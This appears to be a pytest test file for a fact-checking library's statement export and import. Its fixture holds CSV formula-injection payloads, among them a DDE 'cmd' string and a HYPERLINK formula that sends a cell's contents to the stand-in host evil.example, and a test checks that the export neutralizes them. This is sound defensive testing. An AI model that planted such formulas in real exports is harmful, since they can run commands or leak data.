"""Statements written out: whole, safe to open in a spreadsheet, and read back as they were."""

from __future__ import annotations

import csv
import errno
import json
import os
from pathlib import Path

import pytest

from factcheck.errors import InputError
from factcheck.model import Statement, Verdict
from factcheck.statements import load_statements, save_statements, to_frame, to_statements

STATEMENTS = [
    Statement(
        id="=cmd|' /C calc'!A0",
        text='=HYPERLINK("https://evil.example/?"&A1,"The weir was raised")',
        verdict=Verdict.FALSE,
        rating="-2+3",
        publisher="@SUM(A1:A9)",
        url="https://example.org/weir",
        date="2021-03-04",
    ),
    Statement(id="b", text="'=1+1 is what he wrote", verdict=Verdict.TRUE, rating="True", extra={"ratingValue": "-5"}),
    Statement(
        id="c", text="The weir is -3 metres.", verdict=Verdict.MIXED, rating="Half true", title="\t=1", claimant="＝A1"
    ),
]


def test_no_cell_of_a_csv_is_a_formula_and_nothing_is_lost(tmp_path):
    path = tmp_path / "statements.csv"
    save_statements(to_frame(STATEMENTS), path)
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] and cell.lstrip()[0] in "=+-@＝"]
    again = to_statements(load_statements([path]).frame)
    assert [(s.id, s.text, s.rating, s.publisher, s.claimant) for s in again] == [
        (s.id, s.text, s.rating, s.publisher, s.claimant) for s in STATEMENTS
    ]
    assert again[1].extra == {"ratingValue": "-5"}


@pytest.mark.parametrize("ending", [".jsonl", ".parquet", ".csv", ".jsonld"])
def test_every_ending_is_read_back(tmp_path, ending):
    plain = [
        Statement(
            id=f"w{number}",
            text=f"Weir {number} was raised by {number} metres.",
            verdict=Verdict.MOSTLY_TRUE,
            rating="Mostly true",
            publisher="Desk A",
            url=f"https://example.org/{number}",
            date="2020-02",
            claimant="Ida Holm",
            extra={"claimDate": "2020-01-02"},
        )
        for number in range(3)
    ]
    path = tmp_path / f"out{ending}"
    save_statements(to_frame(plain), path)
    again = to_statements(load_statements([path]).frame)
    own = {} if ending != ".jsonld" else {statement.text: statement.id for statement in again}
    assert again == [
        Statement(**{name: getattr(s, name) for name in Statement.__dataclass_fields__} | {"id": own.get(s.text, s.id)})
        for s in plain
    ]


def test_a_feed_of_nothing_is_still_a_feed(tmp_path):
    path = tmp_path / "none.jsonld"
    save_statements(to_frame([]), path)
    assert json.loads(path.read_text(encoding="utf-8"))["dataFeedElement"] == []


@pytest.mark.parametrize("ending", [".jsonl", ".parquet", ".csv", ".jsonld"])
def test_a_folder_that_is_not_there_is_told(tmp_path, ending):
    path = tmp_path / "none" / f"weirs{ending}"
    with pytest.raises(InputError) as caught:
        save_statements(to_frame(STATEMENTS), path)
    assert str(caught.value) == f"{path}: cannot write: the folder does not exist"
    assert caught.value.hint == f"make it first: mkdir -p '{path.parent}'"


def test_another_ending_is_refused_and_nothing_is_left(tmp_path):
    with pytest.raises(InputError, match="cannot be written as") as caught:
        save_statements(to_frame(STATEMENTS), tmp_path / "out.xlsx")
    assert ".jsonld" in str(caught.value.hint)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="a device of Linux")
@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet", ".jsonld"])
def test_a_full_disk_is_told_and_leaves_nothing(tmp_path, monkeypatch, suffix):
    frame = to_frame([Statement(id="a", text="The mill burned down.", verdict=Verdict.FALSE)])
    monkeypatch.setattr("factcheck.statements.save.secrets.token_hex", lambda size: "0")
    (tmp_path / f".out{suffix}.0.part").symlink_to("/dev/full")
    with pytest.raises(InputError) as caught:
        save_statements(frame, tmp_path / f"out{suffix}")
    assert str(caught.value) == f"{tmp_path / f'out{suffix}'}: cannot write: No space left on device"
    assert "free space" in caught.value.hint
    assert not (tmp_path / f"out{suffix}").exists()


def test_a_place_that_can_only_be_read_is_told_by_the_name_that_was_given(tmp_path, monkeypatch):
    def refuse(path, *arguments, **keywords):
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))

    for name in ("open", "unlink"):
        monkeypatch.setattr(Path, name, refuse)
    with pytest.raises(InputError, match="cannot write: Read-only") as caught:
        save_statements(to_frame(STATEMENTS), tmp_path / "out.csv")
    assert caught.value.where == tmp_path / "out.csv"


@pytest.mark.parametrize("ending", [".jsonl", ".parquet", ".csv", ".jsonld"])
def test_names_of_files_need_not_be_utf8_and_may_be_as_long_as_the_system_takes(tmp_path, ending):
    frame = to_frame([Statement(id="a", text="The mill burned down.", verdict=Verdict.FALSE)])
    for name in (b"mill \xff", b"m" * (255 - len(ending))):
        path = tmp_path / (os.fsdecode(name) + ending)
        save_statements(frame, path)
        loaded = load_statements([path, path])
        assert loaded.frame["text"].to_list() == ["The mill burned down."]
        assert str(loaded.duplicates[0]).endswith("left out")
    assert len(list(tmp_path.iterdir())) == 2


def test_files_may_be_named_by_texts(tmp_path):
    path = str(tmp_path / "statements.jsonl")
    save_statements(to_frame(STATEMENTS), path)
    assert [statement.id for statement in to_statements(load_statements([path]).frame)] == [s.id for s in STATEMENTS]
    with pytest.raises(InputError, match="in place of several"):
        load_statements(path)
